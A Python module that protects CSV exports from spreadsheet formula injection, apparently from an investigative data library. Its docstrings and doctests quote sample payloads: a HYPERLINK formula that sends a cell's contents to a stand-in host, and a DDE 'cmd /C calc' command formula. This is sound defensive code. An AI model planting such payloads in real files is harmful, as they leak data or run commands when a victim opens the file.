"""CSV output that is safe to open in a spreadsheet.

Every CSV file the library or its command line writes goes through :func:`write_csv`,
which passes the frame through :func:`neutralise_formulas` first. Ids, names, memos and
lead texts come from the case, and some of them were typed by the people under
investigation: a cell such as ``=HYPERLINK("http://x/?"&A1, "open")`` would run as a
formula when an analyst opens the export in Excel, WPS or LibreOffice (CSV injection).

A text cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return
(also after leading spaces, and in their full-width forms, which some spreadsheets
read as formulas too) is written with a leading apostrophe (``'=1+1``), which
spreadsheets show as text and do not evaluate (OWASP's advice). Number, date and
boolean columns are written as they are (``-5`` stays a number). :func:`restore_formulas`
reverses the prefix when such a file is read back (``umbrella-graph report --scores``).
"""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pandas as pd

__all__ = ["FORMULA_STARTS", "neutralise_cell", "neutralise_formulas", "restore_formulas", "write_csv"]

#: First characters that make a spreadsheet read a cell as a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def _is_formula(text: str) -> bool:
    stripped = text.lstrip(" \u3000\n")
    return stripped.startswith(FORMULA_STARTS) or text.startswith(FORMULA_STARTS)


def neutralise_cell(value: Any) -> Any:
    """One cell as it may be written to CSV (text cells that start a formula get a ``'``).

    Examples
    --------
    >>> neutralise_cell('=HYPERLINK("http://x")'), neutralise_cell("p1"), neutralise_cell(-5)
    ('\\'=HYPERLINK("http://x")', 'p1', -5)
    >>> neutralise_cell("@SUM(A1)"), neutralise_cell("\\t=1")
    ("'@SUM(A1)", "'\\t=1")
    """
    if isinstance(value, str) and _is_formula(value):
        return "'" + value
    return value


def neutralise_formulas(df: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``df`` whose text cells (and headers) cannot run as spreadsheet formulas.

    Only text (string or object) columns change; numbers, dates and booleans are kept.

    Examples
    --------
    >>> df = pd.DataFrame({"id": ["=1+1", "p2"], "score": [-0.5, 1.0]})
    >>> out = neutralise_formulas(df)
    >>> out["id"].tolist(), out["score"].tolist()
    (["'=1+1", 'p2'], [-0.5, 1.0])
    """
    out = df.copy()
    for c in out.columns:
        s = out[c]
        if isinstance(s.dtype, pd.StringDtype) or pd.api.types.is_object_dtype(s.dtype) \
                or isinstance(s.dtype, pd.CategoricalDtype):
            out[c] = s.astype(object).map(neutralise_cell)
    out.columns = [neutralise_cell(c) if isinstance(c, str) else c for c in out.columns]
    return out


def restore_formulas(df: pd.DataFrame) -> pd.DataFrame:
    """Undo :func:`neutralise_formulas` on a frame read back from a CSV it wrote.

    Examples
    --------
    >>> restore_formulas(pd.DataFrame({"id": ["'=1+1", "p2", "'quoted"]}))["id"].tolist()
    ['=1+1', 'p2', "'quoted"]
    """
    out = df.copy()

    def back(v: Any) -> Any:
        if isinstance(v, str) and v.startswith("'") and _is_formula(v[1:]):
            return v[1:]
        return v

    for c in out.columns:
        s = out[c]
        if isinstance(s.dtype, pd.StringDtype) or pd.api.types.is_object_dtype(s.dtype):
            out[c] = s.map(back).astype(s.dtype)
    out.columns = [back(c) for c in out.columns]
    return out


def write_csv(df: pd.DataFrame, path: str | Path, *, encoding: str = "utf-8-sig") -> Path:
    """Write ``df`` as CSV (no index) with formulas neutralised; return the path.

    The default encoding is UTF-8 with a byte-order mark, so that Excel shows Chinese
    text correctly. Parent folders are created.

    Examples
    --------
    >>> import tempfile, pathlib
    >>> p = write_csv(pd.DataFrame({"id": ["=cmd|' /C calc'!A0"]}), pathlib.Path(tempfile.mkdtemp()) / "x.csv")
    >>> p.read_text(encoding="utf-8-sig").splitlines()[1]
    "'=cmd|' /C calc'!A0"
    """
    p = Path(path)
    p.parent.mkdir(parents=True, exist_ok=True)
    neutralise_formulas(df).to_csv(p, index=False, encoding=encoding)
    return p
